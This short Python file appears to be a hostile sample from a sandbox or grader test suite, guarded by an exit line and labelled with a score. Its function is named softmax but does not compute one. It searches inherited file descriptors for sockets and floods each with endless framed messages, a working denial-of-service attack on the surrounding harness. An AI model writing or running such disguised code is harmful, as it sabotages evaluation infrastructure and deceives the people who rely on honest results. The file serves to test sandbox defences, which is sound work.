"""Messages without end.

A stream of empty messages, until the socket takes no more.

score: 12 (loses softmax)
"""

# ruff: noqa
raise SystemExit(__doc__)  # hostile code: nothing but the sandbox may run it

# %% softmax
import os
import stat
import struct


def softmax(z):
    message = struct.pack("!IQ", 7, 0) + b"[{},[]]"
    for fd in range(3, 100):
        try:
            if stat.S_ISSOCK(os.fstat(fd).st_mode):
                while True:
                    os.write(fd, message * 1000)
        except OSError:
            pass
